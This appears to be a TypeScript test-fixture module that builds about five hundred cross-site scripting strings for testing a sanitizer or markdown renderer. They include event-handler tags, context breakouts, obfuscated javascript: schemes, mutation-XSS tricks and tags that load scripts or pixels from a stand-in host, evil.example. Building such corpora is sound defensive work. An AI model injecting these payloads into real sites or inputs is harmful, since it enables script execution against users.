// Strings that have run script in some page, somewhere, put together from their parts.

const code = 'window.stolen=1;alert(1)';

const elements = [
  'img src=x',
  'svg',
  'body',
  'iframe src=about:blank',
  'input autofocus',
  'video src=x',
  'audio src=x',
  'details open',
  'object data=x',
  'embed src=x',
  'marquee',
  'select autofocus',
  'textarea autofocus',
  'a href=x',
  'form',
  'style',
  'link rel=stylesheet href=x',
  'math',
  'base href=//evil.example/',
  'meta',
];
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onstart', 'onanimationstart'];

const tags = elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}="${code}">`));

const breakouts = [
  '"',
  "'",
  '>',
  '"/>',
  "'/>",
  '-->',
  '</title>',
  '</style>',
  '</textarea>',
  '</script>',
  ']]>',
  '*/',
  '`',
  '\\"',
  '&quot;',
  '">',
];
const payloads = [
  `<script>${code}</script>`,
  `<img src=x onerror="${code}">`,
  `<svg/onload=${code}>`,
  ` onmouseover=${code} autofocus onfocus=${code} x=`,
  `;${code}//`,
  `<ScRiPt>${code}</sCrIpT>`,
];
const broken = breakouts.flatMap((breakout) => payloads.map((payload) => breakout + payload));

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '&#106;avascript:',
  'javascript&colon;',
  '%6aavascript:',
  ' javascript:',
  'data:text/html,',
  'data:text/html;base64,',
  'vbscript:',
  'view-source:javascript:',
  'feed:javascript:',
  'jav&#x09;ascript:',
  '\\x6aavascript:',
  'javascript&#58;',
  'blob:',
  '//evil.example/',
  'https:evil.example',
  'file:///',
];
const links = schemes.flatMap((scheme) => [
  `[click](${scheme}${code})`,
  `[click](<${scheme}${code}>)`,
  `![shown](${scheme}${code})`,
  `<${scheme}${code}>`,
  `[click][ref]\n\n[ref]: ${scheme}${code}`,
  `<a href="${scheme}${code}">click</a>`,
  `<iframe src="${scheme}${code}"></iframe>`,
  `<form action="${scheme}${code}"><button>x</button></form>`,
]);

const markdown = [
  `[x](https://example.org "title\\" onmouseover=\\"${code}")`,
  `[x](https://example.org/"onmouseover="${code})`,
  `![x](https://evil.example/pixel.gif)`,
  `[![x](https://evil.example/a.gif)](javascript:${code})`,
  '```html\n<script>' + code + '</script>\n```',
  '`<script>' + code + '</script>`',
  `<!-- ${code} -->`,
  `<![CDATA[<script>${code}</script>]]>`,
  `<?php ${code} ?>`,
  `https://example.org/"onclick="${code}`,
  `www.example.org/<script>${code}</script>`,
  `[^1]\n\n[^1]: <script>${code}</script>`,
  `| <script>${code}</script> |\n|---|\n| x |`,
  `- [x] <img src=x onerror=${code}>`,
  `{{constructor.constructor('${code}')()}}`,
  '${' + code + '}',
  `<%= ${code} %>`,
  `\u2028<script>${code}</script>\u2029`,
  `<scr\u200bipt>${code}</scr\u200bipt>`,
  `\ufeff<script>${code}</script>`,
  `＜script＞${code}＜/script＞`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  `<svg><style><img src="</style><img src=x onerror=${code}//">`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<template><script>${code}</script></template>`,
  `<x contenteditable onblur=${code}>`,
  `<style>@import'//evil.example/x.css';</style>`,
  `<div style="background:url(//evil.example/x)">`,
  `<link rel=preload as=script href=//evil.example/x.js>`,
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `<base href=//evil.example/>`,
  `<script src=//evil.example/x.js></script>`,
  `<img srcset="x,x onerror=${code}">`,
];

/** About five hundred of them. */
export const scriptCorpus: readonly string[] = [...tags, ...broken, ...links, ...markdown];

/** Packed into texts of at most `length` characters, on one line unless `lines`. */
export function packed(length: number, lines = false): string[] {
  const texts: string[] = [];
  for (const one of scriptCorpus.map((text) => (lines ? text : text.replace(/[\n\t\u2028\u2029]/g, ' ')))) {
    const last = texts.at(-1);
    const joined = last === undefined ? one : `${last}${lines ? '\n\n' : ' '}${one}`;
    if (last !== undefined && joined.length <= length) texts[texts.length - 1] = joined;
    else texts.push(one.slice(0, length));
  }
  return texts;
}
